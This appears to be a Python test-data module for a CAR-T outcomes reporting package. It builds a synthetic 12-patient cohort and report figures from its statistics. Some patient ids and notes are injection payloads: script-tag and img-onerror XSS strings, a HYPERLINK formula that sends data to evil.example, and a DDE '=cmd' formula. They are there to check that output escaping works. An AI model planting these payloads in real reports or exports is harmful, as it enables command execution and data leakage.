"""Shared test data of the report tests: a 12-patient cohort whose ids and free text are hostile, and the figures the
snapshot and browser tests draw from the real statistics on it.

The ids and labels carry ``<script>``, quotes and spreadsheet formulas so every output path is exercised with text that
must not execute or evaluate.
"""

from __future__ import annotations

import functools
import warnings
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd

import cart_outcomes.report as R_
from cart_outcomes.endpoints.response import response_rates
from cart_outcomes.errors import DataQualityWarning
from cart_outcomes.report import figures as F
from cart_outcomes.results.deidentify import deidentify
from cart_outcomes.results.records import records
from cart_outcomes.stats import cumulative_incidence, hazard_ratio_logrank, logrank_test, simon_makuch
from cart_outcomes.stats.contingency import summarise_by_group
from cart_outcomes.stats.km import kaplan_meier
from cart_outcomes.toxicity import grade_distribution
from cart_outcomes.units import DAYS_PER_MONTH

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "cd7-tall"
SCRIPT_ID = "<script>alert('id')</script>"
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'
QUOTE_ID = "O'Brien \"Pat\" & co"
SCRIPT_GROUP = "<script>alert('group')</script>"


def hostile_cohort() -> pd.DataFrame:
    ids = [SCRIPT_ID, FORMULA_ID, QUOTE_ID, "@SUM(A1:A2)", "+1+1", "-2+3", "P07", "P08", "P09", "P10", "P11", "P12"]
    return pd.DataFrame(
        {
            "patient_id": ids,
            "infusion_date": pd.to_datetime(["2023-01-05"] * 12) + pd.to_timedelta(np.arange(12) * 17, unit="D"),
            "age_years": [12, 25, 34, 41, 19, 56, 63, 8, 29, 47, 38, 22],
            "sex": ["F", "M", "M", "F", "M", "M", "F", "M", "F", "M", "M", "F"],
            "diagnosis": ["T-ALL"] * 8 + ["T-LBL"] * 4,
            "hsct": [SCRIPT_GROUP, "none"] * 6,
            "day28_response": ["CR", "CRi", "NR", "CR", "PR", "NR", "CR", "CRi", "NR", "CR", None, "CR"],
            "os_days": [14, 30, 45, 81, 100, 134, 134, 200, 300, 400, 600, 925],
            "os_event": [1, 1, 1, 1, 0, 1, 1, 0, 1, 0, 0, 0],
            "last_followup_day": [14, 30, 45, 81, 100, 134, 134, 200, 300, 400, 600, 925],
            "death_day": [14, 30, 45, 81, np.nan, 134, 134, np.nan, 300, np.nan, np.nan, np.nan],
            "progression_day": [np.nan, 20, 40, 60, np.nan, 90, 120, np.nan, 250, np.nan, np.nan, np.nan],
            "hsct_day": [np.nan, np.nan, np.nan, 70, np.nan, np.nan, 75, 60, np.nan, 80, np.nan, 55],
            "crs_max_grade": [1, 2, 3, 1, 2, 3, 1, 1, 3, 2, 3, 1],
            "icans_max_grade": [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, np.nan],
            "note": ["=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "", "", "", "", "", "", "", "", "", ""],
        }
    )


def competing(cohort: pd.DataFrame) -> pd.DataFrame:
    """Relapse (1) vs death without relapse (2), time to the first of them."""
    relapse = cohort["progression_day"].notna()
    return cohort.assign(
        cr_time=np.where(relapse, cohort["progression_day"], cohort["os_days"]),
        cr_status=np.where(relapse, 1, np.where(cohort["os_event"] == 1, 2, 0)),
    )


def daily_grades(cohort: pd.DataFrame) -> pd.DataFrame:
    """Deterministic daily CRS grades rising to each patient's maximum grade and back (days 0-14)."""
    rows = []
    for pid, top in zip(cohort["patient_id"], cohort["crs_max_grade"], strict=True):
        for day in range(15):
            rows.append((pid, day, int(max(0, top - abs(day - 5) // 2))))
    return pd.DataFrame(rows, columns=["patient_id", "day", "grade"])


def km_by_group(cohort: pd.DataFrame):
    km = kaplan_meier(cohort, "os_days", "os_event", by="diagnosis")
    lr = logrank_test(cohort, "os_days", "os_event", by="diagnosis")
    hr = hazard_ratio_logrank(cohort, "os_days", "os_event", by="diagnosis").table.iloc[0]
    return F.km_figure(km, logrank=lr, hazard_ratio=hr, hr_label="HR (log-rank O/E)", unit="months", ci=True,
                       title="Overall survival by diagnosis")


CASES: dict[str, Callable[[pd.DataFrame], object]] = {
    "km_overall": lambda c: F.km_figure(kaplan_meier(c, "os_days", "os_event"), times=[0, 30, 90, 180, 365, 730]),
    "km_by_group": km_by_group,
    "cif_side": lambda c: F.cif_figure(cumulative_incidence(competing(c), "cr_time", "cr_status", by="diagnosis",
                                                            causes={1: "Relapse", 2: "NRM"})),
    "cif_stacked": lambda c: F.cif_figure(cumulative_incidence(competing(c), "cr_time", "cr_status",
                                                               causes={1: "Relapse", 2: "NRM"}), layout="stacked"),
    "simon_makuch": lambda c: F.simon_makuch_figure(simon_makuch(c, "os_days", "os_event", "hsct_day"),
                                                    times=[0, 100, 200, 400, 800]),
    "swimmer": lambda c: F.swimmer_figure(c, colour_by="diagnosis"),
    "toxicity_bars": lambda c: F.toxicity_bars(c, {"crs_max_grade": "CRS", "icans_max_grade": "ICANS"}),
    "toxicity_heatmap": lambda c: F.toxicity_heatmap(daily_grades(c)),
    "forest": lambda c: F.forest_figure(pd.DataFrame({
        "term": ["All", "T-ALL", "T-LBL", c["patient_id"][0]], "hr": [0.8, 0.6, 1.9, 1.0],
        "lower": [0.3, 0.15, 0.4, 0.2], "upper": [2.1, 2.4, 9.0, 5.0], "n": [12, 8, 4, 1], "events": [7, 5, 2, 1]})),
    "kinetics": lambda c: F.kinetics_figure(pd.DataFrame(
        [(pid, d, 10 ** (5 - abs(d - 10) / 5) * (k + 1)) for k, pid in enumerate(c["patient_id"][:4])
         for d in (0, 4, 7, 10, 14, 21, 28)], columns=["patient_id", "day", "value"]), lloq=50.0),
    "kinetics_parameters": lambda c: F.kinetics_parameter_figure(pd.DataFrame({
        "responder": ["Responder"] * 5 + ["Non-responder"] * 3,
        "cmax": [62_000, 88_000, 326_000, 54_000, 150_000, 8_200, 3_200, 0.0],
        "tmax_days": [14, 10, 10, 12, 12, 10, 7, np.nan]}), {"cmax": "Cmax, copies/µg gDNA", "tmax_days": "Tmax, day"},
        by="responder", order=["Responder", "Non-responder"]),
    "lab_trajectories": lambda c: F.lab_trajectory_figure(pd.DataFrame(
        [(a, d, m * f, m * f * 0.6, m * f * 1.5) for a, m in (("anc_per_ul", 1500.0), ("crp_mg_dl", 8.0))
         for d, f in ((-5, 1.0), (0, 0.3), (3, 0.05), (7, 0.04), (14, 0.6), (21, 1.0))],
        columns=["analyte", "day", "median", "q1", "q3"]), {"anc_per_ul": "ANC, /µL", "crp_mg_dl": "CRP, mg/dL"},
        log=("anc_per_ul",), columns=2),
}


@functools.cache
def build(name: str):
    """Figure ``name`` (built once per test process; tests only read and render it)."""
    return CASES[name](hostile_cohort())


MEASURES = {"overall_response": "Overall response", "complete_response": "Complete response"}


def response_parts(cohort: pd.DataFrame) -> tuple[pd.DataFrame, list[dict]]:
    """Counts per category and the rate records of ``day28_response`` (all infused patients, exact 95% CI)."""
    with warnings.catch_warnings():  # the missing response is expected here
        warnings.simplefilter("ignore", DataQualityWarning)
        rates = response_rates(cohort, column="day28_response")
    return rates.counts, records(rates.table)


def km_records(km, months: list[float]) -> list[dict]:
    """The survival records of a KM fit as a run writes them with ``time_unit: months``."""
    at = km.at([m * DAYS_PER_MONTH for m in months])
    out = []
    for m in records(km.medians):
        rows = records(at[at["group"] == m["group"]]) if "group" in at else records(at)
        rates = [{**r, "label": f"{t:g}-month", "time": t} for t, r in zip(months, rows, strict=True)]
        out.append({**m, **{k: None if m[k] is None else m[k] / DAYS_PER_MONTH for k in ("median", "lower", "upper")},
                    "rates": rates})
    return out


def safety_distribution(cohort: pd.DataFrame) -> pd.DataFrame:
    """Grade distribution of the pre-graded CRS and ICANS columns (ASTCT 2019), exact 95% CIs."""
    grades = pd.concat([pd.DataFrame({"patient_id": cohort["patient_id"], "toxicity": tox,
                                      "grade": pd.array(cohort[f"{tox}_max_grade"], dtype="Int64"),
                                      "system": "ASTCT2019"}) for tox in ("crs", "icans")], ignore_index=True)
    return grade_distribution(grades).table


def demo_document(cohort: pd.DataFrame, *, hostile: bool = True) -> R_.ReportDocument:
    """A report with every kind of block, built from the real statistics on ``cohort``; with ``hostile`` the free
    text (paragraphs, captions, warnings, plan, title) carries script tags, quotes and formulas as well."""
    km = kaplan_meier(cohort, "os_days", "os_event", by="hsct")
    km_all = kaplan_meier(cohort, "os_days", "os_event")
    lr = logrank_test(cohort, "os_days", "os_event", by="hsct")
    sm = simon_makuch(cohort, "os_days", "os_event", "hsct_day")
    bad = f" {SCRIPT_ID} {QUOTE_ID}" if hostile else ""
    variables = {"age_years": "Age, years", "sex": "Sex", "diagnosis": "Diagnosis"}
    if "note" in cohort.columns:
        variables["note"] = "Note"
    sections = [
        R_.Section("cohort", "Cohort", paragraphs=[f"{len(cohort)} patients received CD7 CAR-T cells.{bad}"],
                   tables=[R_.TableBlock(R_.baseline_table(summarise_by_group(cohort, variables, by="hsct")),
                                         "Baseline characteristics by HSCT status",
                                         note=FORMULA_ID if hostile else "")]),
        R_.Section("data-quality", "Data quality",
                   warnings=[f"[DATE_ORDER] patient {cohort['patient_id'].iloc[0]} (row 2): example warning",
                             f"[ID] {FORMULA_ID}" if hostile else "[MISSING] 1 day-28 response not evaluable"]),
        R_.Section("response", "Response",
                   tables=[R_.TableBlock(R_.response_table(*response_parts(cohort), conf_pct=95, measures=MEASURES),
                                         "Day-28 response")],
                   figures=[R_.figure_block(F.swimmer_figure(cohort, colour_by="diagnosis"), f"Swimmer plot.{bad}")]),
        R_.Section("survival", "Survival",
                   figures=[R_.figure_block(F.km_figure(km_all, unit="months"), "Overall survival"),
                            R_.figure_block(F.km_figure(km, logrank=lr, unit="months"), "Overall survival by HSCT")],
                   tables=[R_.TableBlock(R_.survival_summary_table(km_records(km, [6]), endpoint="os", unit="months",
                                                                  conf_pct=95), "Survival summary")]),
        R_.Section("hsct", "HSCT and time-dependent analyses", paragraphs=[R_.IMMORTAL_TIME_EXPLANATION],
                   figures=[R_.figure_block(F.simon_makuch_figure(sm), "Simon-Makuch curves")]),
        R_.Section("safety", "Safety",
                   tables=[R_.TableBlock(R_.safety_table(safety_distribution(cohort), conf_pct=95),
                                         "CRS and ICANS (ASTCT 2019)")],
                   figures=[R_.figure_block(F.toxicity_heatmap(daily_grades(cohort)), "Daily CRS grades")]),
        R_.Section("methods", "Methods", paragraphs=[R_.methods_paragraph({
            "time_zero": "the day of CAR-T infusion (day 0)", "conf_type": km.options["conf_type"],
            "conf_level": km.options["conf_level"], "median_rule": "r", "tests": ["logrank", "fisher"],
            "binomial_ci": "clopper-pearson", "time_dependent": ["simon_makuch"], "unit": "months"})]),
    ]
    footer = R_.Footer(input_sha256="0" * 64, plan_text=f"title: demo{bad}\nby: hsct", date="2026-01-01 00:00 UTC",
                       extra=[("Patients", str(len(cohort)))])
    return R_.ReportDocument(f"CD7 CAR-T outcomes{bad}", sections, footer, subtitle=QUOTE_ID if hostile else None)


def clean_cohort() -> pd.DataFrame:
    """The same patients with study codes and plain labels (for the documentation screenshot)."""
    frame, _ = deidentify(hostile_cohort(), drop=["note"])
    return frame.assign(hsct=frame["hsct"].map({SCRIPT_GROUP: "HSCT", "none": "No HSCT"}))


def drawn_rows(risk_ax) -> dict[tuple[str, int], list[float]]:
    """{(row kind, group row): counts left to right}, read from the risk-table text artists of a table axes (gids
    ``risk-<kind>-<row>-<tick>``)."""
    rows: dict[tuple[str, int], list[tuple[float, float]]] = {}
    for text in risk_ax.texts:
        gid = text.get_gid() or ""
        if gid.startswith("risk-"):
            _, kind, row, _ = gid.split("-")
            rows.setdefault((kind, int(row)), []).append((text.get_position()[0], float(text.get_text())))
    return {key: [n for _, n in sorted(cells)] for key, cells in rows.items()}


def drawn_table(fig, axis: int = 1) -> dict[str, dict[str, list[float]]]:
    """The risk table as drawn: {row kind: {row label: counts left to right}}; a row's label is the y tick label at
    its height (the group name, or the kind's name "At risk", "Events" for a single curve)."""
    ax = fig.axes[axis]
    labels = {round(y, 6): t.get_text() for y, t in zip(ax.get_yticks(), ax.get_yticklabels(), strict=True)}
    out: dict[str, dict[str, list[float]]] = {}
    for text in ax.texts:
        gid = text.get_gid() or ""
        if gid.startswith("risk-"):
            kind = gid.split("-")[1]
            label = labels[round(text.get_position()[1], 6)]
            out.setdefault(kind, {}).setdefault(label, []).append((text.get_position()[0], float(text.get_text())))
    return {k: {label: [n for _, n in sorted(cells)] for label, cells in rows.items()} for k, rows in out.items()}


def drawn_at_risk(fig, axis: int = 1) -> dict[str, list[float]]:
    """The numbers at risk as drawn: {row label: counts left to right}."""
    return drawn_table(fig, axis)["at_risk"]
